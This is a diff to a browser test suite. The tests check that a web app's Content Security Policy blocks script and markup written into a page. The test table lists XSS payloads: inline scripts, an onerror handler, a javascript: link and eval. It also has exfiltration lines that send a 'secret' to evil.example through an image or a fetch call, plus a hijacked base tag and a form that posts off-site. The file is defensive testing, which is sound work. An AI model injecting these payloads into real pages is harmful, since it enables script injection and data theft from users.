@@ -4,6 +4,7 @@ import { pathOf, textField, visitWebApp } from '../support/browser/visit-web-app
 import { signUp } from '../support/factories.ts';
 import { routeStripeJs } from '../support/stripe/route-stripe-js.ts';
 import { startStripeServer } from '../support/stripe/stripe-server.ts';
+import { byScope } from '../support/test-scope.ts';
 
 const evil = 'https://evil.example';
 const stripeScript = 'https://js.stripe.com/v3/';
@@ -28,42 +29,41 @@ async function refusedBy(page: Page, act: string): Promise<string[]> {
   return Array.isArray(refused) ? refused.map(String) : [];
 }
 
+/** What an attacker would write, and what the browser says of it. */
+const written: [name: string, act: string, refusal: string][] = [
+  ['a script', 'add("script", { textContent: "window.owned = true" })', 'script-src-elem inline'],
+  ['an event', 'add("p", { innerHTML: "<img src=x: onerror=\'owned = true\'>" })', 'script-src-attr inline'],
+  [
+    'a link that is a script',
+    'const link = document.createElement("a"); link.href = "javascript:owned=true"; document.body.append(link); link.click()',
+    'script-src-elem inline',
+  ],
+  [
+    'a text that becomes a script',
+    // Not at once: code that a debugger runs may do more than the page.
+    'setTimeout(() => { try { window.owned = eval("1") } catch {} })',
+    'script-src eval',
+  ],
+  ['a script of another site', `add("script", { src: "${evil}/x.js" })`, `script-src-elem ${evil}/x.js`],
+  ['a frame', `add("iframe", { src: "${evil}/" })`, `frame-src ${evil}`],
+  ['an object', `add("object", { data: "${evil}/x.swf" })`, `object-src ${evil}`],
+  ['a style', 'add("style", { textContent: "body { display: none }" })', 'style-src-elem inline'],
+  ['a picture that tells', `add("img", { src: "${evil}/?secret" })`, `img-src ${evil}/?secret`],
+  ['a call that tells', `fetch("${evil}/?secret").catch(() => {})`, `connect-src ${evil}/?secret`],
+  ['another base of all addresses', `add("base", { href: "${evil}/" })`, `base-uri ${evil}/`],
+  [
+    'a form that leads away',
+    `add("form", { action: "${evil}/", method: "post" }); document.forms[0].submit()`,
+    `form-action ${evil}/`,
+  ],
+  ['the payment form, where nothing is paid', `add("script", { src: "${stripeScript}" })`, stripeScript],
+];
+
 describe('what is written into a page', () => {
   const visits = visitWebApp();
 
   // attack: 99
-  it.each([
-    ['a script', 'add("script", { textContent: "window.owned = true" })', 'script-src-elem inline'],
-    [
-      'an event',
-      'add("p", { innerHTML: "<img src=x: onerror=\'owned = true\'>" })',
-      'script-src-attr inline',
-    ],
-    [
-      'a link that is a script',
-      'const link = document.createElement("a"); link.href = "javascript:owned=true"; document.body.append(link); link.click()',
-      'script-src-elem inline',
-    ],
-    [
-      'a text that becomes a script',
-      // Not at once: code that a debugger runs may do more than the page.
-      'setTimeout(() => { try { window.owned = eval("1") } catch {} })',
-      'script-src eval',
-    ],
-    ['a script of another site', `add("script", { src: "${evil}/x.js" })`, `script-src-elem ${evil}/x.js`],
-    ['a frame', `add("iframe", { src: "${evil}/" })`, `frame-src ${evil}`],
-    ['an object', `add("object", { data: "${evil}/x.swf" })`, `object-src ${evil}`],
-    ['a style', 'add("style", { textContent: "body { display: none }" })', 'style-src-elem inline'],
-    ['a picture that tells', `add("img", { src: "${evil}/?secret" })`, `img-src ${evil}/?secret`],
-    ['a call that tells', `fetch("${evil}/?secret").catch(() => {})`, `connect-src ${evil}/?secret`],
-    ['another base of all addresses', `add("base", { href: "${evil}/" })`, `base-uri ${evil}/`],
-    [
-      'a form that leads away',
-      `add("form", { action: "${evil}/", method: "post" }); document.forms[0].submit()`,
-      `form-action ${evil}/`,
-    ],
-    ['the payment form, where nothing is paid', `add("script", { src: "${stripeScript}" })`, stripeScript],
-  ])('%s does nothing', async (_what, act, refusal) => {
+  it.each(byScope(written.slice(0, 4), written))('%s does nothing', async (_what, act, refusal) => {
     visits.expectFault(/Content Security Policy|violates the following/);
     const page = await visits.open('/about');
     expect((await refusedBy(page, act)).join('\n')).toContain(refusal);
